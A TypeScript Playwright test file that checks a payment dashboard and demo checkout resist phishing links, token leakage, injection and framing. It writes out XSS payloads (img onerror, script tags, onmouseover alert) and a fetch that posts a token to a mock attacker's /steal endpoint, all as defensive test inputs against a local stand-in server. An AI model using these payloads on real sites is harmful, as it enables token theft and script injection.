// The dashboard and the demo checkout in Chromium under attack: a link naming another gateway, a token
// in the address bar, a script or a fetch slipped into the page. Real webhook-ingest and status-gateway.
import t, { type Test } from 'tap'
import { createServer, type IncomingMessage } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from 'playwright-core'
import { planOrder, seededRandom } from '@herald/simulator'
import { startHerald } from '../herald.ts'
import { chromiumMissing, launchBrowser, openPage } from './browser.ts'

/** Another site: answers everything, CORS wide open, with a forged "completed" order, and records who came. */
async function attackerSite (t: Test) {
  const seen: Array<{ method: string, url: string, authorization: string | undefined }> = []
  const server = createServer((req: IncomingMessage, res) => {
    seen.push({ method: req.method ?? '', url: req.url ?? '', authorization: req.headers.authorization })
    res.setHeader('access-control-allow-origin', '*')
    res.setHeader('access-control-allow-headers', '*')
    res.setHeader('content-type', 'application/json')
    res.end(JSON.stringify({ success: true, orderId: 'x', orderNumber: 'FAKE', paymentStatus: 'completed', status: 'paid', totalAmount: 1, currency: 'KES', ticketCount: 1, customer: null, payment: { provider: 'mpesa', outcome: 'completed', resultCode: 0, resultDesc: 'ok', receipt: 'FAKE', checkoutRequestId: null }, needsReview: false, createdAt: new Date().toISOString(), updatedAt: new Date().toISOString(), version: 9, timedOut: false }))
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  t.teardown(() => new Promise<void>((resolve) => { server.closeAllConnections(); server.close(() => resolve()) }))
  return { origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen }
}

/** Every request the page makes itself (not the navigation that opened it, whose URL the user chose). */
function watch (page: Page) {
  const requests: Array<{ url: string, authorization: string | undefined }> = []
  page.on('request', (request) => {
    if (!request.isNavigationRequest()) requests.push({ url: request.url(), authorization: request.headers().authorization })
  })
  return requests
}

if (chromiumMissing !== false) {
  t.plan(0, chromiumMissing)
} else {
  const herald = await startHerald(t, { GATEWAY_CORS_ORIGINS: '' })
  const pages = herald.gatewayUrl
  const browser = await launchBrowser(t)
  const WAIT = { timeout: 30_000 }
  const admin = herald.adminToken

  t.test('a dashboard link naming another gateway: the page still talks only to its own origin, the token goes nowhere else', async (t) => {
    const attacker = await attackerSite(t)
    const page = await browser.newPage()
    await page.addInitScript(() => {
      const violations: string[] = []
      ;(window as unknown as { violations: string[] }).violations = violations
      document.addEventListener('securitypolicyviolation', (event) => violations.push(`${event.violatedDirective} ${event.blockedURI}`))
    })
    const requests = watch(page)
    await page.goto(`${pages}/?gateway=${encodeURIComponent(attacker.origin)}&token=${admin}`)
    await page.waitForSelector('#feed-registrations[data-state=live]', WAIT)
    await page.waitForSelector('#feed-orders[data-state=live]', WAIT)
    await page.waitForFunction(() => document.getElementById('stat-waiters')?.textContent !== '–', undefined, WAIT)

    t.same(attacker.seen, [], 'the other site got no request at all (not even a preflight)')
    t.equal(new URL(page.url()).searchParams.get('token'), null, 'the token left the address bar')
    t.ok(requests.length > 0)
    for (const request of requests) {
      t.equal(new URL(request.url).origin, pages, `${new URL(request.url).pathname}: same origin`)
      t.notOk(request.url.includes(admin), `${new URL(request.url).pathname}: no token in the URL`)
    }
    const api = requests.filter((r) => new URL(r.url).pathname.startsWith('/api/'))
    t.ok(api.some((r) => r.url.includes('/api/registrations/updates/stream')) && api.some((r) => r.url.includes('/api/stats')), 'feeds and stats were fetched')
    t.ok(api.every((r) => r.authorization === `Bearer ${admin}`), 'each API call carries the token in its Authorization header')
    t.same(await page.evaluate(() => (window as unknown as { violations: string[] }).violations), [], 'the page itself breaks none of its CSP')
    await page.close()
  })

  t.test('an admin who types the token into a page opened from a phishing link still sends it only to this gateway', async (t) => {
    const attacker = await attackerSite(t)
    const { page } = await openPage(browser, `${pages}/?gateway=${encodeURIComponent(attacker.origin)}`)
    const requests = watch(page)
    await page.fill('#login-token', admin)
    await page.click('#login button[type=submit]')
    await page.waitForSelector('#feed-registrations[data-state=live]', WAIT)
    t.same(attacker.seen, [], 'the other site got nothing')
    t.ok(requests.every((r) => new URL(r.url).origin === pages && !r.url.includes(admin)))
    await page.close()
  })

  t.test('the page CSP stops what an injection would try: another origin, an inline script, being framed', async (t) => {
    const attacker = await attackerSite(t)
    const { page } = await openPage(browser, `${pages}/?token=${admin}`)
    await page.waitForSelector('#feed-registrations[data-state=live]', WAIT)
    const leaked = await page.evaluate(async (origin) => {
      try {
        await fetch(`${origin}/steal`, { method: 'POST', body: 'token' })
        return 'sent'
      } catch (error) {
        return String(error)
      }
    }, attacker.origin)
    t.match(leaked, /TypeError/, 'a fetch to another origin is refused by the browser')
    const ran = await page.evaluate(() => {
      const script = document.createElement('script')
      script.textContent = 'window.injected = true'
      document.body.append(script)
      return (window as unknown as { injected?: boolean }).injected === true
    })
    t.equal(ran, false, 'an injected inline script does not run')
    t.same(attacker.seen, [], 'nothing reached the other site')

    // A page of another origin framing the dashboard gets an empty frame.
    const framing = await browser.newPage()
    await framing.route(`${attacker.origin}/frame`, (route) => route.fulfill({ contentType: 'text/html', body: `<iframe id="f" src="${pages}/"></iframe>` }))
    await framing.goto(`${attacker.origin}/frame`)
    const frame = framing.frames().find((f) => f.url().startsWith(pages))
    const framedTitle = frame === undefined ? null : await frame.evaluate(() => document.title).catch(() => null)
    t.not(framedTitle, 'Herald · live activity', 'the dashboard does not render inside another site\'s frame')
    await framing.close()
    await page.close()
  })

  t.test('producer- and provider-supplied text is shown as text: markup in it never runs', async (t) => {
    const { page, errors } = await openPage(browser, `${pages}/?token=${admin}`)
    await page.waitForSelector('#feed-registrations[data-state=live]', WAIT)
    await page.waitForSelector('#feed-orders[data-state=live]', WAIT)
    const payload = '<img src=x onerror="window.pwned=1"><script>window.pwned=2</script>'
    const sent = await herald.producer.registrationEvent('browser-xss', { type: 'stage', stage: 'duplicate_check', status: 'started', message: payload })
    t.equal(sent.status, 200)
    const plan = planOrder(seededRandom(5), 'browser-xss-order', 1)
    const order = await herald.producer.upsertOrder(plan.orderId, { ...plan.order, orderNumber: '<b onmouseover=alert(1)>INV</b>' })
    t.equal(order.status, 200)
    await page.waitForSelector('[data-registration-id="browser-xss"]', WAIT)
    await page.waitForSelector(`[data-order-id="${plan.orderId}"]`, WAIT)
    t.equal(await page.textContent('[data-registration-id="browser-xss"] .message'), payload, 'the message is the literal text')
    t.equal(await page.textContent(`[data-order-id="${plan.orderId}"] td`), '<b onmouseover=alert(1)>INV</b>')
    t.equal(await page.locator('#main img, #main script, #main [onerror], #main [onmouseover]').count(), 0, 'no element was created from the text')
    t.equal(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned), undefined, 'nothing ran')
    t.same(errors, [])
    await page.close()
  })

  t.test('the demo checkout ignores ?gateway=: another site cannot make our page say "Payment received"', async (t) => {
    const attacker = await attackerSite(t)
    const plan = planOrder(seededRandom(3), 'browser-security-order', 1)
    const answer = await herald.producer.upsertOrder(plan.orderId, plan.order)
    t.equal(answer.status, 200)
    const token = answer.body!.subscribeToken
    const { page } = await openPage(browser, `${pages}/demo/checkout?gateway=${encodeURIComponent(attacker.origin)}&orderId=${plan.orderId}&token=${encodeURIComponent(token)}&timeout=1000&attempts=1&pause=10`)
    await page.waitForSelector('#panel[data-state=pending]', WAIT)
    t.match(await page.textContent('#title'), /Still confirming/, 'the real (pending) state, from this gateway')
    t.same(attacker.seen, [], 'the other site was never asked')
    await page.close()
  })
}
